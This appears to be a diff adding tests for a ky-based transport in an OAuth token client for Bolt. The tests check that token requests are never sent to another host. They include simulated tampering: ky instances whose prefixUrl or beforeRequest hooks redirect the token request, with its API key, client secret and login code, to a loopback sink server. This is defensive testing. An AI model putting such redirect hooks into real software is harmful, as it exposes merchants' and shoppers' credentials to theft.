@@ -1,0 +1,77 @@
+/**
+ * The ky transport from the attacker's side: a merchant's ky instance configured (or
+ * tampered with) to send elsewhere must not carry the token request, with its API key,
+ * client secret and the shopper's code, to a sink server on loopback.
+ */
+import ky from 'ky'
+import { describe, expect, it } from 'vitest'
+import { createKyTransport } from '../../adapters/http/ky.js'
+import { isBoltTokenError } from '../../src/errors.js'
+import { logIn, managerFor, PAST_EXPIRY_MS, startEmulator } from '../support/harness.js'
+import { rejection } from '../support/rejection.js'
+import { startSinkServer } from '../support/sink-server.js'
+
+describe('createKyTransport sends token requests to Bolt’s token endpoint only', () => {
+  it('an instance with a prefixUrl of another host: login and refresh reach Bolt, the sink gets nothing', async () => {
+    const bolt = await startEmulator()
+    const sink = await startSinkServer()
+    const tokens = managerFor(bolt, createKyTransport(ky.create({ prefixUrl: sink.url })))
+    await logIn(bolt, tokens, 's1')
+    bolt.advanceClock(PAST_EXPIRY_MS)
+    await tokens.getAccessToken('s1')
+    expect((await tokens.getStatus('s1')).state).toBe('viewOnly')
+    expect(bolt.stats).toMatchObject({ codeExchanges: 1, refreshes: 1 })
+    expect(sink.requests).toEqual([])
+  })
+
+  it('an instance with default searchParams: the token request goes to the endpoint as it is', async () => {
+    const bolt = await startEmulator()
+    const sent: string[] = []
+    const watched: typeof fetch = (input, init) => {
+      const request = new Request(input, init)
+      sent.push(request.url)
+      return fetch(request)
+    }
+    const instance = ky.create({ searchParams: { next: 'elsewhere' }, fetch: watched })
+    const tokens = managerFor(bolt, createKyTransport(instance))
+    await logIn(bolt, tokens, 's1')
+    // The instance's own fetch (a proxy, instrumentation) is still the one that sends.
+    expect(sent).toEqual([`${bolt.url}/v1/oauth/token`])
+  })
+
+  it('a beforeRequest hook that points the request at another host → refused before sending; the code is not lost', async () => {
+    const bolt = await startEmulator()
+    const sink = await startSinkServer()
+    const tampered = ky.create({
+      hooks: {
+        beforeRequest: [
+          (request) => new Request(`${sink.url}${new URL(request.url).pathname}`, request),
+        ],
+      },
+    })
+    const tokens = managerFor(bolt, createKyTransport(tampered))
+    const { code } = bolt.login()
+    const error = await rejection(tokens.exchangeCode('s1', { code }))
+    expect(error.code).toBe('NETWORK_ERROR')
+    const cause = (error as { cause?: unknown }).cause
+    expect(isBoltTokenError(cause, 'INVALID_ARGUMENT')).toBe(true)
+    expect((cause as Error).message).toContain('createKyTransport')
+    expect(sink.requests).toEqual([])
+    expect(bolt.stats.tokenRequests).toBe(0)
+    // Nothing reached anyone: the same code still logs the shopper in over an honest instance.
+    const honest = managerFor(bolt, createKyTransport(ky.create({})))
+    await honest.exchangeCode('s1', { code })
+    expect((await honest.getStatus('s1')).state).toBe('fullyScoped')
+  })
+
+  it('a beforeRequest hook that moves the request to another path of Bolt’s host → refused too', async () => {
+    const bolt = await startEmulator()
+    const moved = ky.create({
+      hooks: { beforeRequest: [(request) => new Request(`${bolt.url}/v1/account`, request)] },
+    })
+    const tokens = managerFor(bolt, createKyTransport(moved))
+    const error = await rejection(tokens.exchangeCode('s1', { code: bolt.login().code }))
+    expect(isBoltTokenError((error as { cause?: unknown }).cause, 'INVALID_ARGUMENT')).toBe(true)
+    expect(bolt.stats).toMatchObject({ tokenRequests: 0, accountReads: 0 })
+  })
+})
